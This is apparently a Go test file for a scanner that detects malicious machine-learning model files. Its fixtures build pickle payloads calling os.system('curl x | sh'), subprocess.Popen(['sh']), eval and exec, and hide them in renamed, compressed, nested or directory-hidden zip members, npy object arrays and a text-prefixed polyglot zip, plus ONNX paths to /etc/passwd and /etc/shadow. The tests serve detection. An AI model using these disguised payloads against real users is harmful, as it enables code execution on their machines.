package scan

import (
	"bytes"
	"context"
	"strings"
	"testing"
)

// unsafeCase is a file that must be refused.
type unsafeCase struct {
	name    string // test name
	file    string // file name the scanner sees
	data    func(t *testing.T) []byte
	verdict Verdict
	global  string // a dangerous global that must be reported
	call    string // a substring of a reported reconstruction
}

func raw(s string) func(*testing.T) []byte { return func(*testing.T) []byte { return []byte(s) } }

var evil0 = call0("os", "system", "curl x | sh") + "."
var evil4 = call4("os", "system", "curl x | sh")

// unsafeCases cover every disguise of the requirement, one row each.
var unsafeCases = []unsafeCase{
	{"protocol 0 GLOBAL REDUCE", "model.pkl", raw(evil0), Unsafe, "os.system", "os.system('curl x | sh')"},
	{"protocol 1 BINSTRING", "m.pkl", raw(glob("os", "system") + "(T" + le32(2) + "idtR."), Unsafe, "os.system", "os.system('id')"},
	{"protocol 2 TUPLE1", "m.pkl", raw(proto(2) + glob("posix", "system") + "U\x02id\x85R."), Unsafe, "posix.system", "posix.system('id')"},
	{"protocol 3 BINUNICODE", "m.pkl", raw(proto(3) + glob("subprocess", "getoutput") + binu("id") + "\x85R."), Unsafe, "subprocess.getoutput", "subprocess.getoutput('id')"},
	{"protocol 4 STACK_GLOBAL FRAME MEMOIZE", "m.bin", raw(evil4), Unsafe, "os.system", "os.system('curl x | sh')"},
	{"protocol 5 header", "m.bin", raw(proto(5) + stackGlobal("nt", "system") + ustr("dir") + "\x85R."), Unsafe, "nt.system", "nt.system('dir')"},
	{"STACK_GLOBAL fed by memo", "m.pkl", raw(proto(4) + ustr("os") + "\x94" + ustr("system") + "\x94" + "0" + "h\x00h\x01\x93" + ustr("id") + "\x85R."), Unsafe, "os.system", "os.system('id')"},
	{"STACK_GLOBAL fed by protocol-0 strings", "m.pkl", raw(str0("os") + "V" + "system\n" + "\x93" + "(" + str0("id") + "tR."), Unsafe, "os.system", "os.system('id')"},
	{"STACK_GLOBAL computed at load time", "m.pkl", raw(proto(4) + glob("builtins", "str") + ustr("os") + "\x85R" + ustr("system") + "\x93" + ustr("id") + "\x85R."), Unsafe, "", "('id')"},
	{"INST", "m.pkl", raw("(" + str0("id") + "ios\nsystem\n."), Unsafe, "os.system", "os.system('id')"},
	{"OBJ", "m.pkl", raw("(" + glob("os", "system") + str0("id") + "o."), Unsafe, "os.system", "os.system('id')"},
	{"NEWOBJ", "m.pkl", raw(proto(2) + glob("subprocess", "Popen") + "]" + str0("sh") + "a\x85\x81."), Unsafe, "subprocess.Popen", "subprocess.Popen(['sh'])"},
	{"NEWOBJ_EX with keywords", "m.pkl", raw(proto(4) + stackGlobal("subprocess", "Popen") + ustr("id") + "\x85}" + ustr("shell") + "\x88s\x92."), Unsafe, "subprocess.Popen", "subprocess.Popen('id', shell=True)"},
	{"__builtin__ eval", "m.pkl", raw(call0("__builtin__", "eval", "__import__('os')") + "."), Unsafe, "__builtin__.eval", "__builtin__.eval("},
	{"builtins exec", "m.pkl", raw(call4("builtins", "exec", "import os")), Unsafe, "builtins.exec", "builtins.exec('import os')"},
	{"nested getattr call", "m.pkl", raw(glob("builtins", "getattr") + "(" + call0("builtins", "__import__", "os") + str0("system") + "tR(" + str0("id") + "tR."), Unsafe, "builtins.getattr", "builtins.getattr(builtins.__import__('os'), 'system')('id')"},
	{"stacked benign then malicious", "m.pkl", raw(proto(2) + "K\x01." + evil4), Unsafe, "os.system", "os.system("},
	{"malicious prefix then junk", "m.pkl", raw(evil4 + "\x00\xff\xfe junk that is not a pickle"), Unsafe, "os.system", "os.system("},
	{"truncated before STOP", "m.pkl", raw(strings.TrimSuffix(evil0, ".")), Unsafe, "os.system", "os.system('curl x | sh')"},
	{"BUILD state calls", "m.pkl", raw(proto(2) + glob("collections", "OrderedDict") + ")R" + call0("os", "system", "id") + "b."), Unsafe, "os.system", "os.system('id')"},
	{"BINPERSID pid", "m.pkl", raw(proto(2) + call0("os", "system", "id") + "Q."), Unsafe, "os.system", "os.system('id')"},
	{"runpy", "m.pkl", raw(call4("runpy", "_run_code", "print(1)")), Unsafe, "runpy._run_code", "runpy._run_code('print(1)')"},
	{"functools.partial", "m.pkl", raw(glob("functools", "partial") + "(" + glob("os", "system") + str0("id") + "tR)R."), Unsafe, "functools.partial", "functools.partial(os.system, 'id')"},
	{"operator.attrgetter", "m.pkl", raw(call4("operator", "attrgetter", "system")), Unsafe, "operator.attrgetter", ""},
	{"torch.hub", "m.pkl", raw(call4("torch.hub", "load", "evil/repo")), Unsafe, "torch.hub.load", ""},
	{"numpy.testing._private", "m.pkl", raw(call4("numpy.testing._private.utils", "runstring", "x")), Unsafe, "numpy.testing._private.utils.runstring", ""},
	{"dotted prefix os.path", "m.pkl", raw(call4("os.path", "exists", "/")), Unsafe, "os.path.exists", ""},
	{"webbrowser", "m.pkl", raw(call4("webbrowser", "open", "http://x")), Unsafe, "webbrowser.open", ""},
	{"uuid private helper", "m.pkl", raw(call4("uuid", "_get_command_stdout", "id")), Unsafe, "uuid._get_command_stdout", ""},
	{"nested torch.load", "m.pkl", raw(call4("torch.storage", "_load_from_bytes", "x")), Unsafe, "torch.storage._load_from_bytes", ""},
	{"EXT1 extension code", "m.pkl", raw(proto(2) + "\x82\x01)R."), Refused, "", ""},
	{"npy-named raw pickle", "weights.npy", raw(evil4), Unsafe, "os.system", "os.system("},
	{"safetensors-named pickle", "model.safetensors", raw(evil0), Unsafe, "os.system", ""},
	{"npy object dtype", "a.npy", raw(string(npyBytes("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", []byte(evil4)))), Unsafe, "os.system", ""},
	{"npy structured dtype with object field", "a.npy", raw(string(npyBytes("{'descr': [('a', '<f8'), ('b', [('c', '|O')])], 'fortran_order': False, 'shape': (1,), }", []byte(evil4)))), Unsafe, "os.system", ""},
	{"pytorch zip data.pkl", "model.pt", zipOf(zipMember{name: "archive/data.pkl", data: []byte(evil4)}, zipMember{name: "archive/version", data: []byte("3\n")}), Unsafe, "os.system", ""},
	{"zip member with innocent name", "model.bin", zipOf(zipMember{name: "weights/readme.txt", data: []byte(evil4)}), Unsafe, "os.system", ""},
	{"zip deflated member", "a.zip", zipOf(zipMember{name: "x", data: []byte(evil0), deflate: true}), Unsafe, "os.system", ""},
	{"zip local name differs from central directory", "a.zip", zipOf(zipMember{name: "data.pkl", cdName: "notes.txt", data: []byte(evil4)}), Unsafe, "os.system", ""},
	{"zip member hidden from central directory", "a.zip", zipOf(zipMember{name: "a.txt", data: []byte("hello\n")}, zipMember{name: "h.pkl", data: []byte(evil4), hidden: true}, zipMember{name: "b.txt", data: []byte("bye\n")}), Unsafe, "os.system", ""},
	{"zip general purpose flags", "a.zip", zipOf(zipMember{name: "x", data: []byte(evil4), flags: 0x0806}), Unsafe, "os.system", ""},
	{"zip CRC mismatch", "a.zip", zipOf(zipMember{name: "x.pkl", data: []byte(evil4), badCRC: true}), Unsafe, "os.system", ""},
	{"nested zip", "outer.zip", func(t *testing.T) []byte {
		inner := buildZip(zipMember{name: "data.pkl", data: []byte(evil4)})
		return buildZip(zipMember{name: "inner.zip", data: inner, deflate: true})
	}, Unsafe, "os.system", ""},
	{"npz object member", "a.npz", zipOf(zipMember{name: "x.npy", data: npyBytes("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", []byte(evil4))}), Unsafe, "os.system", ""},
	{"gzip joblib", "m.joblib", func(*testing.T) []byte { return gzipOf([]byte(evil4)) }, Unsafe, "os.system", "os.system("},
	{"bz2 joblib", "m.joblib", func(t *testing.T) []byte { return bz2Of(t, []byte(evil4)) }, Unsafe, "os.system", ""},
	{"xz joblib", "m.joblib", func(*testing.T) []byte { return xzOf([]byte(evil4)) }, Unsafe, "os.system", ""},
	{"lzma joblib", "m.joblib", func(*testing.T) []byte { return lzmaOf([]byte(evil4)) }, Unsafe, "os.system", ""},
	{"zlib joblib", "m.joblib", func(*testing.T) []byte { return zlibOf([]byte(evil4)) }, Unsafe, "os.system", ""},
	{"lz4 joblib", "m.joblib", func(*testing.T) []byte { return lz4Of([]byte(evil4)) }, Unsafe, "os.system", ""},
	{"gzip in tar in gzip", "m.tgz", func(*testing.T) []byte { return gzipOf(tarOf("a/m.pkl.gz", string(gzipOf([]byte(evil0))))) }, Unsafe, "os.system", ""},
	{"legacy pytorch tar", "m.tar", raw(string(tarOf("sys_info", string(proto(2)+"}."), "pickle", evil4, "storages", "\x80\x02K\x00."))), Unsafe, "os.system", ""},
	{"legacy stacked pickles with magic", "m.pt", raw(proto(2) + "\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19." + proto(2) + "M\xe9\x03." + proto(2) + "}." + evil4 + "\x00\x01binary storage data"), Unsafe, "os.system", ""},
	{"7z archive", "m.7z", raw("7z\xbc\xaf\x27\x1c\x00\x04 compressed"), Unscannable, "", ""},
	{"keras Lambda layer", "m.keras", zipOf(zipMember{name: "metadata.json", data: []byte(`{"keras_version": "3.0.0"}`)}, zipMember{name: "config.json", data: []byte(kerasConfig(true)), deflate: true}), Unsafe, "keras.layers.Lambda", ""},
	{"hdf5 Lambda layer", "m.h5", func(*testing.T) []byte { return hdf5With(kerasConfig(true)) }, Unsafe, "keras.layers.Lambda", ""},
	{"onnx external data climbs out", "m.onnx", func(*testing.T) []byte { return onnxModel("w.bin", "../../etc/passwd") }, Unsafe, "", ""},
	{"onnx external data absolute", "m.onnx", func(*testing.T) []byte { return onnxModel("/etc/shadow") }, Unsafe, "", ""},
	{"safetensors header overruns file", "m.safetensors", raw(le64(1000) + `{"a":1}`), Invalid, "", ""},
	{"safetensors offsets do not match shape", "m.safetensors", func(*testing.T) []byte {
		return safetensorsBytes(`{"w":{"dtype":"F32","shape":[2,2],"data_offsets":[0,12]}}`, 12)
	}, Invalid, "", ""},
	{"safetensors gap between tensors", "m.safetensors", func(*testing.T) []byte {
		return safetensorsBytes(`{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[8,12]}}`, 12)
	}, Invalid, "", ""},
	{"npy data shorter than shape", "a.npy", raw(string(npyBytes("{'descr': '<f8', 'fortran_order': False, 'shape': (3,), }", make([]byte, 16)))), Invalid, "", ""},
	{"avro truncated block", "t.avro", func(t *testing.T) []byte { b := avroBytes(t); return b[:len(b)-20] }, Invalid, "", ""},
	{"lzma header asks for a 2 GiB dictionary", "m.joblib", raw("\x5d\x00\x00\x00\x80" + le64(-1) + "\x00\x01\x02"), Invalid, "", ""},
	{"csv row with extra field", "t.csv", raw("a,b\n1,2\n3,4,5\n"), Invalid, "", ""},
	{"zip encrypted member", "a.zip", zipOf(zipMember{name: "x", data: []byte("secret"), flags: 1}), Unscannable, "", ""},
}

func zipOf(m ...zipMember) func(*testing.T) []byte {
	return func(*testing.T) []byte { return buildZip(m...) }
}

func TestUnsafeCorpus(t *testing.T) {
	if len(unsafeCases) < 40 {
		t.Fatalf("corpus has %d malicious cases, want at least 40", len(unsafeCases))
	}
	for _, c := range unsafeCases {
		t.Run(c.name, func(t *testing.T) {
			b := c.data(t)
			rep, err := Reader(context.Background(), c.file, bytes.NewReader(b), int64(len(b)), Options{})
			if err != nil {
				t.Fatal(err)
			}
			if !rep.Failed() || rep.Verdict != c.verdict {
				t.Fatalf("verdict %s, want %s; findings: %+v", rep.Verdict, c.verdict, rep.Findings)
			}
			checkReported(t, rep, c.global, c.call)
		})
	}
}

// checkReported asserts a dangerous global and a reconstruction are listed.
func checkReported(t *testing.T, rep *Report, global, call string) {
	t.Helper()
	var gotGlobal, gotCall bool
	for _, f := range rep.Findings {
		for _, g := range f.Globals {
			gotGlobal = gotGlobal || (g.String() == global && g.Class == ClassDangerous)
		}
		for _, c := range f.Calls {
			gotCall = gotCall || strings.Contains(c, call)
		}
	}
	if global != "" && !gotGlobal {
		t.Errorf("dangerous global %s not reported: %+v", global, rep.Findings)
	}
	if call != "" && !gotCall {
		t.Errorf("call %q not reconstructed: %+v", call, rep.Findings)
	}
}

func TestPolyglotZipAfterPrefix(t *testing.T) {
	// Text, then a zip whose central directory is found from the end of
	// the file: zip readers that search for the end record open it.
	z := buildZip(zipMember{name: "data.pkl", data: []byte(evil4)})
	prefix := []byte("just a text file\n")
	// shift the central directory offsets by the prefix length
	b := append(append([]byte{}, prefix...), z...)
	rep, err := Reader(context.Background(), "notes.txt", bytes.NewReader(b), int64(len(b)), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Verdict != Unsafe {
		t.Fatalf("verdict %s, want unsafe: %+v", rep.Verdict, rep.Findings)
	}
}
